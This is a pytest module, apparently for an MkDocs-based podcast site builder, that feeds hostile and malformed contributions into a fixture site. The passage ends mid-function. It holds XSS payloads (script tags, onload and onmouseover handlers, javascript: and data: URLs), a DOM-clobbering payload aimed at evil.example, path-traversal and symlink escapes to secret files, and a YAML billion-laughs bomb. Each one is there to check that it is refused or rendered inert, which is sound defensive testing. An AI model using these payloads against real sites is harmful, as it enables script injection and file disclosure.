"""Hostile and broken contributions, beyond the golden catalogue of test_invalid_catalogue.

Each case is applied to a fresh copy of the fixture site, and one of two promises is checked:

* **broken input is refused**: `archipelago check` names the file (and the field and line
  where there is one), and `mkdocs build` aborts before it writes anything: the previous
  site's ``old.html`` is untouched and nothing else appears, in ``site/`` or beside it;
* **hostile markup is published inert**: the build succeeds, and nothing a contributor wrote
  is live in any page or feed: no script but the theme's own, no ``on*`` attribute, no
  ``javascript:`` address, no frame, object, embed, style sheet, ``<base>`` or refresh; the
  HTML inside the feeds' descriptions and contents is parsed again and held to the same rule.

A case whose promise is not kept today is marked ``xfail(strict=True)`` with the reason: the
test says what should happen, so it fails the day the bug is fixed and the mark must go.
Very large inputs run in a child process (``fixtures/hostile/measure.py``) that reports its
time and peak memory. "Does not hang" is 60 s of CPU time (RLIMIT_CPU): wall time on a shared
two-core machine measures the neighbours too; SIGALRM still ends a child that waits 180 s.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import lxml.etree
import lxml.html
import pytest
from mkdocs.exceptions import Abort

from archipelago.content.placeholders import BODIES as PLACEHOLDER_BODIES
from helpers.builds import build_site
from helpers.contributions import (
    AUDIO,
    BLOCK,
    CONFIG,
    EPISODE,
    GUIDE,
    LISTING,
    LOCK,
    MARKUP,
    PAYLOADS,
    PERSON,
    TRANSCRIPT,
    Setup,
    Theme,
    all_messages,
    append_body,
    feed_problems,
    heading,
    live_markup,
    page_problems,
    put,
    replace,
    set_field,
    yaml_string,
)
from helpers.sites import FIXTURE_SITE, MEDIA, REPO, copy_fixture_site, write

#: The lock once the fixture's episode was published (as `archipelago lock` writes it).
LOCKED_FIRST_STEPS = json.dumps(
    {
        "version": 1,
        "episodes": [
            {
                "guid": "3f2b8c1e-7d4a-4e5b-9c6d-0a1b2c3d4e5f",
                "slug": "first-steps",
                "number": 1,
                "season": 1,
                "enclosure": "https://fixture.example.org/episodes/media/001-first-steps.mp3",
                "first_published": "2026-05-04",
            }
        ],
    }
)
MEASURE = REPO / "tests" / "fixtures" / "hostile" / "measure.py"

OLD_PAGE = "<p>the last good build</p>\n"
#: Peak memory allowed to a child process checking and building a very large input.
MAX_RSS_MB = 1536
#: CPU seconds a child process may use (SIGXCPU ends it), and wall seconds it may take.
TIME_LIMIT = 60
WALL_LIMIT = 180
_KILLED = {
    -24: f"used more than {TIME_LIMIT} s of CPU time",
    -14: f"did not finish within {WALL_LIMIT} s",
}

# --- writing content ---------------------------------------------------------------------------


def outside(root: Path) -> Path:
    """A folder beside the site, outside content/, holding files someone may try to reach."""
    folder = root.parent / "outside"
    if not folder.is_dir():
        folder.mkdir()
        shutil.copyfile(FIXTURE_SITE / AUDIO, folder / "secret.mp3")
        shutil.copyfile(FIXTURE_SITE / "content/assets/cover.png", folder / "secret.png")
        shutil.copyfile(FIXTURE_SITE / "content/people/ada-host.jpg", folder / "secret.jpg")
        shutil.copyfile(FIXTURE_SITE / TRANSCRIPT, folder / "secret.vtt")
        (folder / "secret.txt").write_text("a maintainer's secret\n", encoding="utf-8")
    return folder


def remove(path: str) -> Setup:
    """Delete a file of the site."""

    def setup(root: Path) -> None:
        (root / path).unlink()

    return setup


def symlink(path: str, target: str = "") -> Setup:
    """A link at ``path`` to ``target`` in the folder outside the site (the folder itself)."""

    def setup(root: Path) -> None:
        os.symlink(outside(root) / target, root / path)

    return setup


def steps(*setups: Setup) -> Setup:
    """Several changes, in order."""

    def setup(root: Path) -> None:
        for step in setups:
            step(root)

    return setup


def new_episode(slug: str, audio: str) -> Setup:
    """Add episode 2, with its own GUID, using the given audio path."""
    return put(
        f"content/episodes/{slug}.md",
        "---\ntitle: Second\nnumber: 2\nseason: 1\npublished: 2026-05-11\n"
        f"guid: 0d6c1a4e-0000-4000-8000-000000000002\naudio: {audio}\n"
        "summary: A second episode.\n---\nNotes.\n",
    )


# --- the cases -----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Broken:
    """A contribution that `check` must refuse with a message, and the build with it.

    Args:
        id: the case's name in the test report.
        setup: turns the fixture site into the broken one.
        path: the file the message names, as messages show it.
        field: the field it names, when there is one.
        at: text on the line the message points to (the first line of ``path`` holding it).
        says: words the message holds (case-insensitive); ``"a|b"`` accepts either.
        bug: why it is not refused as it should be today (the case is then xfail).
    """

    id: str
    setup: Setup
    path: str
    field: str | None = None
    at: str | None = None
    says: tuple[str, ...] = ()
    bug: str | None = None


@dataclass(frozen=True)
class Hostile:
    """Markup or links that must build and be published as text, never as live markup.

    Args:
        payload: when set, it was put into text fields and must show verbatim, as text.
    """

    id: str
    setup: Setup
    payload: str | None = None
    bug: str | None = None


WITH_MARKUP = {name: p for name, p in PAYLOADS.items() if MARKUP.search(p)}
WITHOUT_MARKUP = {name: p for name, p in PAYLOADS.items() if name not in WITH_MARKUP}

#: Every description `in_descriptions` fills, as its message names it.
DESCRIPTIONS = {(EPISODE, "summary"), (GUIDE, "summary"), (CONFIG, "show.description")}
#: Every other text field, which `in_text_fields` fills.
TEXT_FIELDS = {
    (EPISODE, "title"),
    (EPISODE, "topics[0]"),
    (EPISODE, "chapters[1].title"),
    (GUIDE, "title"),
    (GUIDE, "topics[0]"),
    (LISTING, "name"),
    (LISTING, "focus"),
    (LISTING, "audience"),
    (LISTING, "regions[0]"),
    (PERSON, "name"),
    (PERSON, "links[0].label"),
    (PERSON, "bio"),
    (CONFIG, "show.title"),
    (CONFIG, "show.author"),
    (CONFIG, "show.copyright"),
}


def in_text_fields(payload: str) -> Setup:
    """``payload`` in every text field but the descriptions, of every kind and of the show."""
    q = yaml_string(payload)
    return steps(
        set_field(EPISODE, "title", q),
        set_field(EPISODE, "topics", f"[{q}]"),
        replace(EPISODE, "title: Ben's story", f"title: {q}"),
        set_field(GUIDE, "title", q),
        set_field(GUIDE, "topics", f"[{q}]"),
        set_field(LISTING, "name", q),
        set_field(LISTING, "focus", q),
        set_field(LISTING, "audience", q),
        set_field(LISTING, "regions", f"[{q}]"),
        set_field(PERSON, "name", q),
        replace(
            PERSON,
            "image: people/ada-host.jpg",
            f"image: people/ada-host.jpg\nlinks:\n  - label: {q}\n    url: https://example.org/ada",
        ),
        set_field(PERSON, "bio", q),
        set_field(CONFIG, "title", q),
        set_field(CONFIG, "author", q),
        set_field(CONFIG, "copyright", q),
    )


def in_descriptions(payload: str) -> Setup:
    """``payload`` in the summaries and the show's description, which apps show as HTML."""
    q = yaml_string(payload)
    return steps(
        set_field(EPISODE, "summary", q),
        set_field(GUIDE, "summary", q),
        set_field(CONFIG, "description", q),
    )


def in_bodies(text: str) -> Setup:
    """``text`` as a block of its own in every kind's body: show notes, guide, listing, person."""
    return steps(*(append_body(path, text) for path in (EPISODE, GUIDE, LISTING, PERSON)))


#: An element that takes the id of Material's configuration, which its bundle reads with
#: `document.querySelector("#__config")`: the first match in the page wins.
CLOBBER = (
    '<p id="__config">{"base": "https://evil.example/", "features": ["navigation.instant"],'
    ' "search": "https://evil.example/worker.js", "translations": {}}</p>\n\n## __config'
)

HOSTILE: list[Hostile] = [
    # Titles, names, bios and listing text take anything and show it as text.
    *(
        Hostile(f"text-fields-{name}", in_text_fields(p), payload=p)
        for name, p in WITH_MARKUP.items()
    ),
    *(
        Hostile(f"text-fields-{name}", steps(in_text_fields(p), in_descriptions(p)), payload=p)
        for name, p in WITHOUT_MARKUP.items()
    ),
    # A transcript is not front matter: its text is escaped, never refused.
    Hostile(
        "transcript-text-markup",
        replace(
            TRANSCRIPT, "Glad to be here.", "Glad to be here. " + " ".join(WITH_MARKUP.values())
        ),
    ),
    *(Hostile(f"bodies-{name}", in_bodies(p)) for name, p in PAYLOADS.items()),
    Hostile("bodies-raw-html-block", in_bodies(BLOCK)),
    Hostile("bodies-dom-clobbering", in_bodies(CLOBBER)),
    Hostile(
        "bodies-dom-clobbering-by-character-reference",
        in_bodies('<p id="&#95;&#x5f;config">x</p>\n\n<p id="&lowbar;&UnderBar;search">y</p>'),
    ),
    Hostile(
        "transcript-speaker-script",
        replace(TRANSCRIPT, "<v Ben Guest>", "<v <script>x</script>>"),
    ),
    Hostile(
        "urls-with-quotes-and-handlers",
        steps(
            set_field(LISTING, "website", yaml_string('https://x.example/"onmouseover="alert(1)')),
            set_field(LISTING, "sources", "['https://x.example/\"><script>alert(1)</script>']"),
            replace(
                EPISODE,
                "title: Ben's story",
                "title: Ben's story\n    url: 'https://x.example/\"onclick=\"alert(1)'",
            ),
            replace(
                PERSON,
                "image: people/ada-host.jpg",
                "image: people/ada-host.jpg\nwebsite: \"https://x.example/'onfocus='alert(1)\"",
            ),
        ),
    ),
    Hostile("cdata-end-in-show-notes", append_body(EPISODE, "a ]]> b <![CDATA[ c ]]> d")),
]


def _bin_vtt() -> bytes:
    return b"WEBVTT\n\n00:00:00.000 --> 00:00:01.000\n\x00\x01\x02\xff\xfe\x80 binary \x1b[0m\n"


BROKEN: list[Broken] = [
    # Markup in a description, which apps show as HTML: refused (the contributor meant
    # formatting, or the character a reference stands for).
    *(
        Broken(
            f"descriptions-{name}",
            in_descriptions(p),
            EPISODE,
            "summary",
            "summary:",
            ("plain text",),
        )
        for name, p in WITH_MARKUP.items()
    ),
    # Characters XML cannot carry, reaching text fields through YAML escapes.
    Broken(
        "episode-title-U+0001",
        set_field(EPISODE, "title", yaml_string("Rates\x01and fees")),
        EPISODE,
        "title",
        "title:",
        ("U+0001",),
    ),
    Broken(
        "episode-title-lone-surrogate",
        set_field(EPISODE, "title", yaml_string("Rates \ud800")),
        EPISODE,
        "title",
        "title:",
        ("U+D800",),
    ),
    Broken(
        "chapter-title-U+FFFE",
        replace(EPISODE, "title: Ben's story", "title: " + yaml_string("Ben’s story\ufffe")),
        EPISODE,
        "chapters[1].title",
        "Ben’s story",
        ("U+FFFE",),
    ),
    Broken(
        "guide-title-U+000C",
        set_field(GUIDE, "title", yaml_string("Going\x0csolo")),
        GUIDE,
        "title",
        "title:",
        ("U+000C",),
    ),
    Broken(
        "person-name-U+0000",
        set_field(PERSON, "name", yaml_string("Ada\x00Host")),
        PERSON,
        "name",
        "name:",
        ("U+0000",),
    ),
    Broken(
        "listing-focus-U+001F",
        set_field(LISTING, "focus", yaml_string("desks\x1fand a kitchen")),
        LISTING,
        "focus",
        "focus:",
        ("U+001F",),
    ),
    Broken(
        "episode-summary-U+FFFF",
        set_field(EPISODE, "summary", yaml_string("Ben talks\uffff.")),
        EPISODE,
        "summary",
        "summary:",
        ("U+FFFF",),
    ),
    Broken(
        "show-title-U+0008",
        set_field(CONFIG, "title", yaml_string("Fixture\x08Show")),
        CONFIG,
        "show.title",
        "title:",
        ("U+0008",),
    ),
    Broken(
        "episode-topic-U+000B",
        set_field(EPISODE, "topics", "[" + yaml_string("iso\x0blation") + "]"),
        EPISODE,
        "topics[0]",
        "topics:",
        ("U+000B",),
    ),
    Broken(
        "episode-title-C1-control-U+009B",
        set_field(EPISODE, "title", yaml_string("First\x9bsteps")),
        EPISODE,
        "title",
        "title:",
        ("U+009B",),
    ),
    Broken(
        "front-matter-raw-U+FFFF",
        replace(EPISODE, "title: First steps", "title: First\uffffsteps"),
        EPISODE,
        None,
        "title:",
        ("U+FFFF",),
    ),
    Broken(
        "show-notes-U+0002",
        append_body(EPISODE, "Tab\x02ulated notes."),
        EPISODE,
        None,
        "Tab\x02ulated",
        ("U+0002",),
    ),
    Broken(
        "transcript-cue-U+0001",
        replace(TRANSCRIPT, "Glad to be here.", "Glad\x01 to be here."),
        TRANSCRIPT,
        None,
        "Glad\x01",
        ("U+0001",),
    ),
    Broken(
        "transcript-is-binary",
        put(TRANSCRIPT, _bin_vtt()),
        TRANSCRIPT,
        None,
        None,
        ("UTF-8|U+0000",),
    ),
    # Byte-order marks in the middle of a file.
    Broken(
        "bom-before-a-key",
        replace(EPISODE, "title: First steps", "\ufefftitle: First steps"),
        EPISODE,
        None,
        "title: First steps",
        ("U+FEFF|byte-order mark",),
    ),
    Broken(
        "bom-before-the-closing-line",
        replace(EPISODE, "---\nBen describes", "\ufeff---\nBen describes"),
        EPISODE,
        None,
        "\ufeff---",
        ("U+FEFF|byte-order mark",),
    ),
    # Dates that do not exist, keys that only look right.
    Broken(
        "published-2026-02-29",
        set_field(EPISODE, "published", "2026-02-29"),
        EPISODE,
        "published",
        "published:",
        ("2026-02-29", "not a real date"),
    ),
    Broken(
        "guide-published-2026-13-01",
        set_field(GUIDE, "published", "2026-13-01"),
        GUIDE,
        "published",
        "published:",
        ("2026-13-01",),
    ),
    Broken(
        "key-with-cyrillic-look-alike",
        replace(EPISODE, "title: First steps", "tіtle: First steps"),
        EPISODE,
        "tіtle",
        "tіtle:",
        ("unknown field", "'title'"),
    ),
    Broken(
        "duplicate-key-differing-in-case",
        replace(EPISODE, "title: First steps", "title: First steps\nTitle: First Steps"),
        EPISODE,
        "Title",
        "Title:",
        ("unknown field",),
    ),
    # Paths that leave the content tree.
    Broken(
        "transcript-dotdot",
        set_field(EPISODE, "transcript", "episodes/media/../../../outside/secret.vtt"),
        EPISODE,
        "transcript",
        "transcript:",
        ("'..'",),
    ),
    Broken(
        "episode-image-absolute",
        replace(EPISODE, "explicit: false", "explicit: false\nimage: /etc/artwork.png"),
        EPISODE,
        "image",
        "image:",
        ("absolute",),
    ),
    Broken(
        "audio-percent-encoded-dotdot",
        set_field(EPISODE, "audio", "episodes/%2e%2e/%2e%2e/%2e%2e/outside/secret.mp3"),
        EPISODE,
        "audio",
        "audio:",
        ("does not exist",),
    ),
    Broken(
        "chapter-image-backslashes",
        replace(EPISODE, "title: Ben's story", "title: Ben's story\n    image: '..\\..\\x.png'"),
        EPISODE,
        "chapters[1].image",
        "image:",
        ("'/'",),
    ),
    Broken(
        "person-image-dotdot",
        set_field(PERSON, "image", "people/../../outside/secret.jpg"),
        PERSON,
        "image",
        "image:",
        ("'..'",),
    ),
    Broken(
        "show-artwork-dotdot",
        set_field(CONFIG, "artwork", "../outside/secret.png"),
        CONFIG,
        "show.artwork",
        "artwork:",
        ("'..'",),
    ),
    Broken(
        "audio-link-to-a-file-outside",
        steps(
            symlink("content/episodes/media/linked.mp3", "secret.mp3"),
            set_field(EPISODE, "audio", "episodes/media/linked.mp3"),
        ),
        EPISODE,
        "audio",
        "audio:",
        ("outside content/",),
    ),
    Broken(
        "person-image-link-to-a-file-outside",
        steps(
            symlink("content/people/linked.jpg", "secret.jpg"),
            set_field(PERSON, "image", "people/linked.jpg"),
        ),
        PERSON,
        "image",
        "image:",
        ("outside content/",),
    ),
    Broken(
        "show-artwork-link-to-a-file-outside",
        steps(
            symlink("content/assets/linked.png", "secret.png"),
            set_field(CONFIG, "artwork", "assets/linked.png"),
        ),
        CONFIG,
        "show.artwork",
        "artwork:",
        ("outside content/",),
    ),
    Broken(
        "transcript-in-a-linked-folder-outside",
        steps(
            symlink("content/episodes/media/elsewhere"),
            set_field(EPISODE, "transcript", "episodes/media/elsewhere/secret.vtt"),
        ),
        EPISODE,
        "transcript",
        "transcript:",
        ("outside content/",),
    ),
    Broken(
        "chapter-image-in-a-linked-folder-outside",
        steps(
            symlink("content/episodes/media/elsewhere"),
            replace(
                EPISODE,
                "title: Ben's story",
                "title: Ben's story\n    image: episodes/media/elsewhere/secret.png",
            ),
        ),
        EPISODE,
        "chapters[1].image",
        "image:",
        ("outside content/",),
    ),
    Broken(
        "episode-image-in-a-linked-folder-outside",
        steps(
            symlink("content/episodes/media/elsewhere"),
            replace(
                EPISODE,
                "explicit: false",
                "explicit: false\nimage: episodes/media/elsewhere/secret.png",
            ),
        ),
        EPISODE,
        "image",
        "image:",
        ("outside content/",),
    ),
    Broken(
        "unnamed-link-to-a-folder-outside",
        symlink("content/assets/elsewhere"),
        "content/assets/elsewhere",
        None,
        None,
        ("outside content/",),
    ),
    Broken(
        "unnamed-link-to-a-file-outside",
        symlink("content/assets/notes.txt", "secret.txt"),
        "content/assets/notes.txt",
        None,
        None,
        ("outside content/",),
    ),
    # Media that is not what its name says.
    Broken(
        "audio-is-an-html-page",
        put(AUDIO, b"<!DOCTYPE html>\n<html><body><h1>404 Not Found</h1></body></html>\n"),
        EPISODE,
        "audio",
        "audio:",
        ("not audio",),
    ),
    Broken("audio-is-empty", put(AUDIO, b""), EPISODE, "audio", "audio:", ("empty",)),
    Broken(
        "audio-is-truncated",
        steps(
            put(
                "content/episodes/media/002-cut.mp3",
                (MEDIA / "tone-cbr.mp3").read_bytes()[:8254],
            ),
            new_episode("002-cut", "episodes/media/002-cut.mp3"),
        ),
        "content/episodes/002-cut.md",
        "audio",
        "audio:",
        ("truncated",),
    ),
    Broken(
        "episode-artwork-is-not-an-image",
        steps(
            put("content/episodes/media/001-art.png", b"<html>not an image</html>\n"),
            replace(
                EPISODE, "explicit: false", "explicit: false\nimage: episodes/media/001-art.png"
            ),
        ),
        EPISODE,
        "image",
        "image:",
        ("not a readable image",),
    ),
    Broken(
        "person-image-is-not-an-image",
        put("content/people/ada-host.jpg", b"<html>not an image</html>\n"),
        PERSON,
        "image",
        "image:",
        ("image",),
    ),
    Broken(
        "chapter-image-is-not-an-image",
        steps(
            put("content/episodes/media/chapter.png", b"GIF89a, or rather, not"),
            replace(
                EPISODE,
                "title: Ben's story",
                "title: Ben's story\n    image: episodes/media/chapter.png",
            ),
        ),
        EPISODE,
        "chapters[1].image",
        "image:",
        ("image",),
    ),
    # Markup in descriptions, one at a time (titles and bios take it, and show it as text).
    Broken(
        "show-description-with-markup",
        set_field(CONFIG, "description", yaml_string("A show <svg onload=alert(1)>")),
        CONFIG,
        "show.description",
        "description:",
        ("plain text",),
    ),
    Broken(
        "guide-summary-with-markup",
        set_field(GUIDE, "summary", yaml_string('Why. <a href="javascript:alert(1)">More</a>')),
        GUIDE,
        "summary",
        "summary:",
        ("plain text",),
    ),
    # Links that would run code, refused by the URL fields.
    Broken(
        "chapter-url-javascript",
        replace(EPISODE, "title: Ben's story", "title: Ben's story\n    url: javascript:alert(1)"),
        EPISODE,
        "chapters[1].url",
        "url:",
        ("expected an http or https URL",),
    ),
    Broken(
        "listing-website-javascript-mixed-case",
        set_field(LISTING, "website", "JaVaScRiPt:alert(1)"),
        LISTING,
        "website",
        "website:",
        ("expected an http or https URL",),
    ),
    Broken(
        "person-link-data-url",
        replace(
            PERSON,
            "image: people/ada-host.jpg",
            "image: people/ada-host.jpg\nlinks:\n  - label: Home\n"
            "    url: 'data:text/html,<script>alert(1)</script>'",
        ),
        PERSON,
        "links[0].url",
        "url:",
        ("expected an http or https URL",),
    ),
    # Nothing published breaks or vanishes silently.
    Broken(
        "published-audio-file-missing",
        remove(AUDIO),
        EPISODE,
        "audio",
        "audio:",
        ("is not under content/", "media_base_url", "--without-media"),
    ),
    Broken(
        "locked-episode-dated-into-the-future",
        steps(put(LOCK, LOCKED_FIRST_STEPS), set_field(EPISODE, "published", "2126-05-04")),
        EPISODE,
        "published",
        "published:",
        ("would leave the feed", "restore published: 2026-05-04", "lock retire"),
    ),
    Broken(
        "locked-episode-turned-draft",
        steps(
            put(LOCK, LOCKED_FIRST_STEPS),
            replace(EPISODE, "explicit: false", "explicit: false\ndraft: true"),
        ),
        EPISODE,
        "draft",
        "draft: true",
        ("vanish", "lock retire"),
    ),
    Broken(
        "body-link-to-a-missing-page",
        append_body(GUIDE, "See [the episode](../episodes/001-first-step.md)."),
        GUIDE,
        None,
        "001-first-step.md",
        ("leads nowhere", "did you mean '../episodes/001-first-steps.md'"),
    ),
    Broken(
        "body-link-to-a-missing-anchor",
        append_body(EPISODE, "Read [the transcript](#transcrpit)."),
        EPISODE,
        None,
        "#transcrpit",
        ("no heading or anchor #transcrpit", "did you mean '#transcript'"),
    ),
    Broken(
        "body-link-to-a-folder",
        append_body(GUIDE, "All [episodes](../episodes/)."),
        GUIDE,
        None,
        "../episodes/)",
        ("names no file", "../episodes/index.md"),
    ),
    Broken(
        "guide-published-with-its-placeholder-summary",
        set_field(GUIDE, "summary", "One or two sentences on what the reader will take away."),
        GUIDE,
        "summary",
        "summary:",
        ("placeholder", "archipelago new"),
    ),
    Broken(
        "listing-published-with-its-placeholder-body",
        append_body(LISTING, PLACEHOLDER_BODIES["directory"]),
        LISTING,
        None,
        PLACEHOLDER_BODIES["directory"],
        ("placeholder", "draft: true"),
    ),
    Broken(
        "person-with-the-placeholder-bio",
        set_field(PERSON, "bio", "One plain-text sentence about who they are."),
        PERSON,
        "bio",
        "bio:",
        ("placeholder",),
    ),
    Broken(
        "episode-title-2999-characters",
        set_field(EPISODE, "title", "Rates " * 499 + "now!!"),
        EPISODE,
        "title",
        "title:",
        ("2999 characters", "at most 255"),
    ),
    Broken(
        "show-title-256-characters",
        set_field(CONFIG, "title", "S" * 256),
        CONFIG,
        "show.title",
        "title:",
        ("256 characters", "at most 255"),
    ),
    Broken(
        "guide-title-300-characters",
        set_field(GUIDE, "title", "G" * 300),
        GUIDE,
        "title",
        "title:",
        ("at most 255",),
    ),
    Broken(
        "chapter-title-300-characters",
        replace(EPISODE, "title: Ben's story", "title: " + "C" * 300),
        EPISODE,
        "chapters[1].title",
        "C" * 300,
        ("at most 255",),
    ),
    Broken(
        "person-name-300-characters",
        set_field(PERSON, "name", "Ada " * 75),
        PERSON,
        "name",
        "name:",
        ("at most 255",),
    ),
    Broken(
        "listing-name-300-characters",
        set_field(LISTING, "name", "Harbour " * 37 + "Cowork"),
        LISTING,
        "name",
        "name:",
        ("at most 255",),
    ),
    Broken(
        "episode-summary-4001-bytes",
        set_field(EPISODE, "summary", "a" * 4001),
        EPISODE,
        "summary",
        "summary:",
        ("4001 bytes", "at most 4000"),
    ),
    Broken(
        "show-description-over-4000-bytes-in-2001-letters",
        set_field(CONFIG, "description", "é" * 2001),  # Apple counts bytes: é is two
        CONFIG,
        "show.description",
        "description:",
        ("4002 bytes", "at most 4000"),
    ),
]


def _front_matter_3mb(root: Path) -> None:
    long_text = "word " * 600_000
    replace(EPISODE, "topics: [isolation]", f"topics: [isolation]\nnotes: {long_text.strip()}")(
        root
    )


def _chapters_10000(root: Path) -> None:
    # Flow style keeps 10,000 chapters under the 256 KiB front matter limit.
    chapters = ", ".join(f"{{start: {i}, title: c}}" for i in range(10_000))
    file = root / EPISODE
    text = file.read_text(encoding="utf-8")
    start, end = text.index("chapters:"), text.index("related_guides:")
    file.write_text(text[:start] + f"chapters: [{chapters}]\n" + text[end:], encoding="utf-8")


def _guests_20000(root: Path) -> None:
    guests = ", ".join(f"guest-{i}" for i in range(20_000))
    set_field(EPISODE, "guests", f"[{guests}]")(root)


def _nested_10000(root: Path) -> None:
    set_field(EPISODE, "topics", "[" * 10_000 + "]" * 10_000)(root)


def _billion_laughs(root: Path) -> None:
    bomb = ["topics: &a [lol, lal]"]
    for level in range(1, 10):
        previous = "a" if level == 1 else f"l{level - 1}"
        refs = ", ".join([f"*{previous}"] * 10)
        bomb.append(f"x{level}: &l{level} [{refs}]")
    replace(EPISODE, "topics: [isolation]", "\n".join(bomb))(root)


LARGE: list[Broken] = [
    Broken("front-matter-3mb", _front_matter_3mb, EPISODE, None, None, ("256 KiB",)),
    Broken("chapters-10000", _chapters_10000, EPISODE, None, "chapters:", ("chapters[",)),
    Broken("guests-20000", _guests_20000, EPISODE, None, "guests:", ("guests[",)),
    Broken(
        "yaml-nested-10000-levels",
        _nested_10000,
        EPISODE,
    ),
    Broken("yaml-billion-laughs", _billion_laughs, EPISODE, None, None, ("alias",)),
]


def _params(cases: list[Any]) -> list[Any]:
    return [
        pytest.param(
            case,
            id=case.id,
            marks=[pytest.mark.xfail(strict=True, reason=case.bug)] if case.bug else [],
        )
        for case in cases
    ]


def test_the_catalogue_holds_at_least_40_cases() -> None:
    ids = [case.id for case in (*BROKEN, *HOSTILE, *LARGE)] + [BIG_BODY_TEST]
    assert len(ids) == len(set(ids)), "two cases share an id"
    assert len(ids) >= 40


# --- broken input --------------------------------------------------------------------------------


def expected_prefix(root: Path, case: Broken) -> str:
    """``path:line:`` (or ``path:``) as the message must begin."""
    if case.at is None:
        return f"{case.path}:"
    lines = (root / case.path).read_text(encoding="utf-8", errors="replace").split("\n")
    line = next((n for n, text in enumerate(lines, 1) if case.at in text), None)
    assert line is not None, f"{case.at!r} is not in {case.path}"
    return f"{case.path}:{line}:"


def names_the_problem(message: str, prefix: str, case: Broken) -> bool:
    """Whether ``message`` points at the case's file, line and field, in its words."""
    if not message.startswith(prefix):
        return False
    if case.field is not None and not message.startswith(f"{prefix} {case.field}: "):
        return False
    lowered = message.lower()
    return all(any(word.lower() in lowered for word in words.split("|")) for words in case.says)


def assert_refused(root: Path, case: Broken, found: list[str]) -> None:
    """`check` printed a line naming the case's file (line, field, words)."""
    prefix = expected_prefix(root, case)
    field = f" {case.field}:" if case.field else ""
    assert any(names_the_problem(m, prefix, case) for m in found), (
        f"expected a message starting {prefix}{field} saying {case.says}; got:\n"
        + "\n".join(found[:20])
    )


def prepare_old_site(root: Path) -> set[str]:
    """Write the previous build's page; return what the project folder holds beside it."""
    write(root, "site/old.html", OLD_PAGE)
    return {p.name for p in root.iterdir()}


def assert_nothing_written(root: Path, before: set[str]) -> None:
    """The old page is untouched, nothing joined it, and no half-built site lies beside it."""
    site_dir = root / "site"
    assert (site_dir / "old.html").read_text(encoding="utf-8") == OLD_PAGE
    assert sorted(p.relative_to(site_dir).as_posix() for p in site_dir.rglob("*")) == ["old.html"]
    # The probe cache is not output: it records audio already checked.
    assert {p.name for p in root.iterdir()} - {".cache"} == before - {".cache"}


#: `path:line: field: ` at the start of a message.
_WHERE = re.compile(r"^(?P<path>[^:]+):(?P<line>\d+): (?P<field>[^:]+): ")


@pytest.mark.parametrize("name", sorted(WITH_MARKUP))
def test_markup_in_every_description_is_named_field_by_field_in_one_run(
    site: Path, name: str
) -> None:
    steps(in_text_fields(WITH_MARKUP[name]), in_descriptions(WITH_MARKUP[name]))(site)
    found = [m for m in all_messages(site) if "must be plain text" in m]
    where = [_WHERE.match(m) for m in found]
    assert all(where), found
    assert {(m["path"], m["field"]) for m in where if m} == DESCRIPTIONS
    assert all("(fix: " in m for m in found)


@pytest.mark.parametrize("case", _params(BROKEN))
def test_broken_contribution_is_refused_before_anything_is_written(
    site: Path, case: Broken
) -> None:
    case.setup(site)
    assert_refused(site, case, all_messages(site))
    before = prepare_old_site(site)
    with pytest.raises(Abort):
        build_site(site)
    assert_nothing_written(site, before)


def measure_command(root: Path) -> list[str]:
    """The command that checks and builds ``root`` in a child process, with its limits."""
    return [sys.executable, str(MEASURE), str(root), str(TIME_LIMIT), str(WALL_LIMIT)]


def read_report(code: int, out: str, err: str) -> dict[str, Any]:
    """The child's report, once it is sure the child ended on its own."""
    assert code not in _KILLED, f"the check and build {_KILLED.get(code)}"
    assert code == 0, f"the child process failed ({code}):\n{err[-3000:]}"
    report = dict(json.loads(out.splitlines()[-1]))
    assert report["cpu_seconds"] < TIME_LIMIT, report
    assert report["max_rss_mb"] < MAX_RSS_MB, report
    return report


def measure(root: Path) -> dict[str, Any]:
    """Check and build ``root`` in a child process; its report (time, memory, outcome)."""
    run = subprocess.run(
        measure_command(root), capture_output=True, text=True, timeout=WALL_LIMIT + 30, check=False
    )
    return read_report(run.returncode, run.stdout, run.stderr)


@pytest.mark.parametrize("case", _params(LARGE))
def test_very_large_input_is_refused_in_bounded_time_and_memory(site: Path, case: Broken) -> None:
    case.setup(site)
    before = prepare_old_site(site)
    report = measure(site)
    assert report["check_crash"] is None
    assert_refused(site, case, report["messages"])
    assert report["build"] == "aborted"
    assert_nothing_written(site, before)


# --- hostile markup ------------------------------------------------------------------------------

NS = {"atom": "http://www.w3.org/2005/Atom"}


def assert_shown_as_text(site_dir: Path, payload: str) -> None:
    """The payload appears verbatim, as text: in each page's heading and in the feeds."""
    for page in (
        "episodes/001-first-steps/index.html",
        "guides/going-solo/index.html",
        "directory/harbour-cowork/index.html",
        "people/ada-host/index.html",
    ):
        h1 = heading(site_dir, page)
        assert h1.text_content() == payload, page
        assert len(h1) == 0, f"{page}: markup inside the heading"
    rss = lxml.etree.parse(str(site_dir / "feed.xml"))
    assert rss.findtext("channel/item/title") == payload
    assert rss.findtext("channel/title") == payload
    atom = lxml.etree.parse(str(site_dir / "guides/feed.xml"))
    assert atom.findtext("atom:entry/atom:title", namespaces=NS) == payload
    person = lxml.html.document_fromstring((site_dir / "people/ada-host/index.html").read_bytes())
    assert payload in [p.text_content() for p in person.xpath("//article//p")], "the bio"
    if not MARKUP.search(payload):  # the summary got it too: its HTML must show it as text
        description = rss.findtext("channel/item/description")
        shown = lxml.html.fragment_fromstring(description, create_parent="div").text_content()
        assert payload in shown


@pytest.mark.parametrize("case", _params(HOSTILE))
def test_hostile_markup_is_published_inert(site: Path, case: Hostile, theme: Theme) -> None:
    case.setup(site)
    assert all_messages(site) == []
    out = build_site(site)
    assert live_markup(out, theme) == []
    if case.payload is not None:
        assert_shown_as_text(out, case.payload)


#: Live markup as it would appear in a page, for the checker's own test.
RAW_LIVE = {
    **{name: p for name, p in PAYLOADS.items() if not name.startswith(("entity", "markdown"))},
    "markdown-javascript-link": '<a href="javascript:alert(1)">x</a>',
    "javascript-with-tab-and-case": '<a href=" Java\tScript:alert(1)">x</a>',
    "contributed-script-file": '<script src="assets/contributed.js"></script>',
    "json-that-is-not": '<script type="application/ld+json">alert(1)</script>',
    "block": BLOCK,
    "dom-clobbering": '<p id="__config">{}</p>',
}


@pytest.mark.parametrize("name", sorted(RAW_LIVE))
def test_the_inertness_check_sees_live_markup(
    name: str, pristine: Path, theme: Theme, tmp_path: Path
) -> None:
    out = shutil.copytree(pristine, tmp_path / "site")
    assert live_markup(out, theme) == []
    page = out / "index.html"
    html = page.read_text(encoding="utf-8")
